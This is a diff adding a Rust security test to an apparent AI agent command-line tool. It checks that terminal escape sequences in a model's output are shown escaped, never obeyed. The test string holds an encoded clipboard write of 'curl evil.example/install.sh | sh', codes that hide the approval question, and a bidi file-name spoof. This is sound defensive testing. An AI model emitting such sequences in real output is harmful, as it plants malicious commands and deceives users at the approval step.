@@ -448,3 +448,46 @@ fn wait_for(child: &mut Child, limit: Duration) -> std::process::ExitStatus {
         std::thread::sleep(Duration::from_millis(50));
     }
 }
+
+/// Security review finding 7: a model's text (or a tool's output) is shown,
+/// never obeyed — OSC 52 (writes the clipboard), cursor-up and erase-line
+/// (would hide the approval question) and a bidi override reach the
+/// terminal as visible escapes, in the run's stream and in `runs show`.
+#[test]
+fn escape_sequences_a_model_writes_are_printed_escaped() {
+    let attack = "Summary ready.\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUvaW5zdGFsbC5zaCB8IHNo\u{7}\u{1b}[1A\u{1b}[2K read\u{202e}txt.exe";
+    let provider = provider(Script {
+        rules: vec![Rule::text(attack).repeat()],
+    });
+    let dir = tempfile::tempdir().unwrap();
+    press_team(dir.path(), &provider);
+    let out = run(colmena(dir.path()).args(["agent", "run", "redactora", "summarise"]));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+        assert!(!bytes.contains(&0x1b), "{stream} carries a raw ESC");
+        assert!(!bytes.contains(&0x07), "{stream} carries a raw BEL");
+        let text = String::from_utf8_lossy(bytes);
+        assert!(
+            !text.contains('\u{202e}'),
+            "{stream} carries a bidi override"
+        );
+    }
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("\\u{1B}]52;c;")
+            && text.contains("\\u{1B}[1A")
+            && text.contains("\\u{202E}txt.exe"),
+        "{text}"
+    );
+    let runs = ok_json(colmena(dir.path()).args(["runs", "list"]));
+    let id = runs[0]["id"].as_str().unwrap();
+    let shown = run(colmena(dir.path()).args(["runs", "show", id]));
+    assert!(!shown.stdout.contains(&0x1b), "runs show carries a raw ESC");
+    // JSON stays JSON: the encoder escapes the control characters itself.
+    let json = ok_json(colmena(dir.path()).args(["runs", "show", id]));
+    assert!(json.to_string().contains("Summary ready."));
+}
